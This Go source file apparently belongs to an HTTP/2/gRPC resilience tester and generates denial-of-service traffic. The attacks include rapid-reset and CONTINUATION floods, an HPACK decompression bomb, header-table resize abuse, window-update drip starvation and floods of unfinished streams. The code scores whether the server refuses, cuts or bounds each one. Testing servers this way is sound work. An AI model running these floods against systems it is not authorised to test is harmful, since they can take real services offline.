package main

import (
	"bytes"
	"encoding/binary"
	"time"
)

// A connection that is still served after so much of a flood has got away with it. Some
// MiB lie in the buffers of both sockets.
const mostFloodBytes = 32 << 20

// As many frames, or groups of them, are sent in one write.
const batch = 200

// flooding attacks with frames, over and over, on one connection after the other.
func flooding(reads bool, begin func(*buffer), next func(b *buffer, stream uint32)) func(*assault) {
	return func(a *assault) {
		for !a.over() {
			p, err := a.http2(reads)
			if err != nil {
				a.fault("no connection: %v", err)
				return
			}
			stream := uint32(1)
			if begin != nil {
				var b buffer
				begin(&b)
				stream = 3
				if p.send(b.bytes) != nil {
					p.reset()
					continue
				}
			}
			p.flood(reads, mostFloodBytes, func(b *buffer) {
				for i := 0; i < batch; i++ {
					next(b, stream)
					stream += 2
				}
			})
		}
	}
}

var (
	echoBlock    = grpcBlock(echoMethod)
	emptyMessage = message(0, nil)
)

// reset attacks by streams whose end it has the server make, or makes itself.
func reset(block []byte, rest func(b *buffer, stream uint32)) func(*assault) {
	return flooding(true, nil, func(b *buffer, stream uint32) {
		b.frame(typeHeaders, flagEndHeaders, stream, block)
		rest(b, stream)
	})
}

func ended(block []byte, rest func(b *buffer, stream uint32)) func(*assault) {
	return flooding(true, nil, func(b *buffer, stream uint32) {
		b.frame(typeHeaders, flagEndHeaders|flagEndStream, stream, block)
		rest(b, stream)
	})
}

// same floods with one frame.
func same(reads bool, kind, flags byte, stream uint32, payload []byte) func(*assault) {
	return flooding(reads, nil, func(b *buffer, _ uint32) { b.frame(kind, flags, stream, payload) })
}

func openStream(b *buffer) { b.frame(typeHeaders, flagEndHeaders, 1, echoBlock) }

// on floods one open stream with one frame.
func on(kind, flags byte, payload []byte) func(*assault) {
	return flooding(true, openStream, func(b *buffer, _ uint32) { b.frame(kind, flags, 1, payload) })
}

func continuations(bytes int) func(*assault) {
	piece := make([]byte, bytes)
	begin := func(b *buffer) { b.frame(typeHeaders, 0, 1, echoBlock) }
	return flooding(true, begin, func(b *buffer, _ uint32) { b.frame(typeContinuation, 0, 1, piece) })
}

// One entry of nearly the whole table, and then as many references to it as a frame holds:
// 16 KiB that mean 64 MiB.
func hpackBomb() func(*assault) {
	first := literal(grpcBlock(echoMethod), 0x40, "x", repeat("v", 4000))
	bomb := append(grpcBlock(echoMethod), bytes.Repeat([]byte{0x80 | 62}, 16_000)...)
	begin := func(b *buffer) { b.frame(typeHeaders, flagEndHeaders|flagEndStream, 1, first) }
	return flooding(true, begin, func(b *buffer, stream uint32) {
		b.frame(typeHeaders, flagEndHeaders|flagEndStream, stream, bomb)
	})
}

// Two changes of the table's size before every head, and an entry that the next throws out.
func tableGames() func(*assault) {
	resize := hpackInt(hpackInt(nil, 0x20, 5, 0), 0x20, 5, 4096)
	head := append(resize, grpcBlock(echoMethod)...)
	head = literal(head, 0x40, "x", repeat("v", 1000))
	head = literal(head, 0x40, "y", repeat("v", 1000))
	return flooding(true, nil, func(b *buffer, stream uint32) {
		b.frame(typeHeaders, flagEndHeaders, stream, head)
		b.uint32Frame(typeReset, stream, 8)
	})
}

// Replies of 1 MiB each, for windows of so many bytes: nobody reads them.
func unread(connections, calls int, window uint32, drip bool) func(*assault) {
	return func(a *assault) {
		request := message(0, number1(1<<20))
		head := grpcBlock(bigMethod)
		var peers []*peer
		for i := 0; i < connections && !a.over(); i++ {
			p, err := a.http2(true, settingWindowSize, window)
			if err != nil {
				a.end(refused, "")
				continue
			}
			var b buffer
			b.uint32Frame(typeWindowUpdate, 0, 1<<30)
			for stream := uint32(1); stream < uint32(2*calls); stream += 2 {
				b.frame(typeHeaders, flagEndHeaders, stream, head).data(stream, request, true)
			}
			if p.send(b.bytes) != nil {
				a.end(cut, p.goAway)
				p.reset()
				continue
			}
			peers = append(peers, p)
		}
		for drip && !a.over() && len(peers) > 0 {
			peers = dripWindows(peers, calls)
		}
		for !a.over() {
			time.Sleep(10 * time.Millisecond)
		}
		for _, p := range peers {
			select {
			case <-p.done:
				a.end(cut, p.goAway)
			default:
				a.end(bounded, "")
			}
			p.reset()
		}
	}
}

// dripWindows gives each stream one more byte, and returns whom the server still bears.
func dripWindows(peers []*peer, calls int) []*peer {
	var b buffer
	for stream := uint32(1); stream < uint32(2*calls); stream += 2 {
		b.uint32Frame(typeWindowUpdate, stream, 1)
	}
	left := peers[:0]
	for _, p := range peers {
		if p.send(b.bytes) == nil {
			left = append(left, p)
		} else {
			<-p.done
			p.assault.end(cut, p.goAway)
			p.reset()
		}
	}
	return left
}

// Streams that begin and never go on: as many as the server allows, and then more.
func unfinished(rest []byte) func(*assault) {
	return flooding(true, nil, func(b *buffer, stream uint32) {
		b.frame(typeHeaders, flagEndHeaders, stream, echoBlock)
		if rest != nil {
			b.frame(typeData, 0, stream, rest)
		}
	})
}

var pings = binary.BigEndian.AppendUint64(nil, 42)
